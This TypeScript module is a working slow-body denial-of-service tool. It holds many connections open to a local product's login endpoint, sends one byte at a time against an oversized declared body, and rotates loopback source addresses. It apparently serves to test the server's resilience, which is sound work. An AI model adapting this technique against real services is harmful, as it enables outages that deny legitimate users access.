import { once } from 'node:events';
import { connect, type Socket } from 'node:net';

export interface SlowBodiesOptions {
  /** Number of concurrent bodies: each one that is ended starts again. */
  bodies: number;
  /** Number of addresses of this machine to send from, starting at 127.0.0.2; 250 at most. */
  addresses: number;
  /** The pause between two bytes. */
  ms: number;
}

/**
 * Attacks the product at `url` ('http://127.0.0.1:3000') with sign-ins whose bodies arrive byte by byte. Resolves once
 * all of them have started.
 */
export async function slowBodies(
  url: string,
  { bodies, addresses, ms }: SlowBodiesOptions,
): Promise<{ close(): Promise<void> }> {
  const open = new Set<Socket>();
  let closing = false;
  const begin = async (index: number): Promise<void> => {
    const socket = await openConnection(url, `127.0.0.${2 + (index % addresses)}`);
    open.add(socket);
    socket.write(head(url));
    const sending = setInterval(() => socket.write('x'), ms);
    socket.once('close', () => {
      clearInterval(sending);
      open.delete(socket);
      if (!closing) begin(index).catch(() => undefined); // The product stopped before the attack.
    });
  };
  await Promise.all(Array.from({ length: bodies }, (_, index) => begin(index)));
  return {
    close: async () => {
      closing = true;
      const closed = [...open].map((socket) => once(socket, 'close'));
      // A socket that the server has ended is closing already and can't be reset.
      for (const socket of open) {
        if (socket.writableEnded) socket.destroy();
        else socket.resetAndDestroy();
      }
      await Promise.all(closed);
    },
  };
}

async function openConnection(url: string, localAddress: string): Promise<Socket> {
  const socket = connect({ port: Number(new URL(url).port), host: '127.0.0.1', localAddress });
  await once(socket, 'connect');
  socket.on('error', () => undefined); // The attack expects to be disconnected.
  socket.resume();
  return socket;
}

function head(url: string): string {
  const { host, origin } = new URL(url);
  return [
    'POST /api/auth/login HTTP/1.1',
    `host: ${host}`,
    `origin: ${origin}`,
    'content-type: application/json',
    'content-length: 900000',
    '\r\n',
  ].join('\r\n');
}
